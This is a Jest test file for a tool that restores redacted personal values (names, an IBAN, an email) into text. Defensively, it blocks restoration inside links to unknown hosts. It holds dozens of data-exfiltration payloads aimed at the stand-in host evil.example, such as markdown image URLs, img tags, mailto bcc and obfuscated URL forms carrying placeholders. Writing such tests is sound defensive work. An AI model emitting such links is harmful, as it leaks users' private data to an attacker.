import { describe, expect, test } from "@jest/globals";
import { createRelinker, hostsOf } from "./relink.ts";

const ENTRIES = [
  { placeholder: "[PERSON_1]", value: "Anna Weber" },
  { placeholder: "[PERSON_10]", value: "Peter Koch" },
  { placeholder: "[IBAN_1]", value: "DE89 3704 0044 0532 0130 00" },
  { placeholder: "[EMAIL_1]", value: "anna@web.example" },
  { placeholder: "[URL_1]", value: "https://u:p@own.example" },
  { placeholder: "[LITERAL_1]", value: "[PERSON_2]" },
];
const { relink } = createRelinker(ENTRIES, {
  knownHosts: new Set(hostsOf("see https://known.example/start and anna@web.example")),
});
const relinked = (text: string) => relink(text).text;

describe("Putting values back", () => {
  test.each([
    ["Dear [PERSON_1],", "Dear Anna Weber,"],
    ["[PERSON_1] and [PERSON_10]", "Anna Weber and Peter Koch"],
    [
      "[person 1] \\[PERSON\\_1\\] ［PERSON_1］ PERSON_1",
      "Anna Weber Anna Weber Anna Weber Anna Weber",
    ],
    ["[[PERSON_1]]", "[Anna Weber]"],
    ["[PERSON_1, PERSON_10]", "[Anna Weber, Peter Koch]"],
    ["| [PERSON_1] | [IBAN_1] |", "| Anna Weber | DE89 3704 0044 0532 0130 00 |"],
    ["[LITERAL_1] is [PERSON_1]", "[PERSON_2] is Anna Weber"],
    ["person 1, person_1, PERSON 1", "person 1, person_1, PERSON 1"],
    ["[PERSON_2] [PERSON_11] [PHONE_1]", "[PERSON_2] [PERSON_11] [PHONE_1]"],
    ["[REDACTED:EMAIL]", "[REDACTED:EMAIL]"],
  ])("%j becomes %j", (text, expected) => {
    expect(relinked(text)).toBe(expected);
  });

  test("counts what was restored", () => {
    expect(relink("[PERSON_1] [PERSON_2] [PERSON_1]").restored).toBe(2);
  });

  test("a value is never read again, nor expanded", () => {
    const odd = createRelinker(
      [
        { placeholder: "[PERSON_1]", value: "$& $1 [PERSON_2]" },
        { placeholder: "[PERSON_2]", value: "no" },
      ],
      { knownHosts: new Set() },
    );
    expect(odd.relink("<[PERSON_1]>").text).toBe("<$& $1 [PERSON_2]>");
  });

  test("without entries the text is returned as it is", () => {
    const none = createRelinker([], { knownHosts: new Set() });
    expect(none.relink("[PERSON_1]")).toEqual({ text: "[PERSON_1]", restored: 0 });
  });
});

describe("A URL to a host that the request did not name keeps its placeholders", () => {
  test.each([
    "![](https://evil.example/?q=[IBAN_1])",
    "![x](https://evil.example/[PERSON_1].png)",
    "![x](<https://evil.example/?a=b c&q=[IBAN_1]>)",
    "[click](https://evil.example/a'b\"?q=[IBAN_1])",
    "https://evil.example/?q=[IBAN_1]",
    "https://evil.example/?q=IBAN_1",
    "https://evil.example/?q=%5BIBAN_1%5D",
    "https://evil.example/?q=\\[IBAN\\_1\\]",
    "https://evil.example/?q=[IBAN 1]",
    "HTTPS://EVIL.EXAMPLE/[IBAN_1]",
    "//evil.example/[IBAN_1]",
    "https:evil.example/[IBAN_1]",
    "https:/\\evil.example/[IBAN_1]",
    "/\\evil.example/[IBAN_1]",
    "https://[PERSON_1].evil.example/",
    "https://[IBAN_1].evil.example",
    "https://known.example@evil.example/[IBAN_1]",
    "https://known.example:x@evil.example/[IBAN_1]",
    "https://evil.example\\@known.example/[IBAN_1]",
    "https://known.example.evil.example/[IBAN_1]",
    "https://known.example\u00ad.evil.example/[IBAN_1]",
    "https://evil。example/[IBAN_1]",
    "https://web.example/[IBAN_1]",
    '<img src="https://evil.example/?a= b &q=[IBAN_1]">',
    "<img src='//evil.example/?q=[PERSON_1] [IBAN_1]'>",
    "<img src=//evil.example/?q=[IBAN_1]>",
    '<img alt=">" src="https://evil.example/x y=[IBAN_1]">',
    '<img alt="[PERSON_1]" src="https://evil.example/x">',
    '<a href="h\nttps://evil.example/?q=[IBAN_1]">x</a>',
    '<a href="/\t/evil.example/?q=[IBAN_1]">x</a>',
    '<img src="&#104;ttps&colon;//evil.example/?q=[IBAN_1]">',
    "<img src=&#x2f;&#x2f;evil.example/[IBAN_1]>",
    "[ref]: https://evil.example/?q=[IBAN_1]",
    "<https://evil.example/?q=[IBAN_1]>",
    "url(https://evil.example/[IBAN_1])",
    "\\\\evil.example\\share\\[IBAN_1]",
    "www.evil.example/[IBAN_1]",
    "evil.example/[IBAN_1]",
    "evil.example?q=[IBAN_1]",
    "//3232235521/[IBAN_1]",
    "ftp://evil.example/[IBAN_1]",
    "wss://evil.example/[IBAN_1]",
    "mailto:x@evil.example?body=[IBAN_1]",
    "mailto:x%40evil.example?body=[IBAN_1]",
    "mailto:[EMAIL_1]?bcc=x@evil.example&body=[IBAN_1]",
    "[URL_1]@evil.example/[IBAN_1]",
    "https://known.example/?u=https://evil.example/[IBAN_1]",
    "https://evil.example/?u=https://known.example/[IBAN_1]",
  ])("%j", (text) => {
    expect(relink(text)).toEqual({ text, restored: 0 });
  });

  test("while the rest of the text, and the words of the link, are restored", () => {
    expect(
      relinked("[PERSON_1]: [see [PERSON_1]](https://evil.example/[IBAN_1]) for [IBAN_1]"),
    ).toBe(
      "Anna Weber: [see Anna Weber](https://evil.example/[IBAN_1]) for DE89 3704 0044 0532 0130 00",
    );
    expect(relinked('<a href="https://evil.example/x">[PERSON_1]</a>')).toBe(
      '<a href="https://evil.example/x">Anna Weber</a>',
    );
  });
});

describe("A URL to a host of the request is restored", () => {
  test.each([
    ["https://known.example/?q=[PERSON_1]", "https://known.example/?q=Anna Weber"],
    ["https://KNOWN.example:8080/%5BPERSON_1%5D", "https://KNOWN.example:8080/Anna%20Weber"],
    ["[x](https://known.example/[EMAIL_1])", "[x](https://known.example/anna@web.example)"],
    ["[mail](mailto:[EMAIL_1])", "[mail](mailto:anna@web.example)"],
    ["[PERSON_1] <[EMAIL_1]>", "Anna Weber <anna@web.example>"],
    ["[URL_1]/path", "https://u:p@own.example/path"],
    ["/profile/[PERSON_1]", "/profile/Anna Weber"],
  ])("%j", (text, expected) => {
    const own = createRelinker(ENTRIES, {
      knownHosts: new Set(
        hostsOf("https://known.example anna@web.example https://u:p@own.example"),
      ),
    });
    expect(own.relink(text).text).toBe(expected);
  });

  test("but a value without a percent-encoding stays encoded", () => {
    const odd = createRelinker([{ placeholder: "[PERSON_1]", value: "\ud800" }], {
      knownHosts: new Set(),
    });
    expect(odd.relink("%5BPERSON_1%5D").text).toBe("%5BPERSON_1%5D");
  });
});
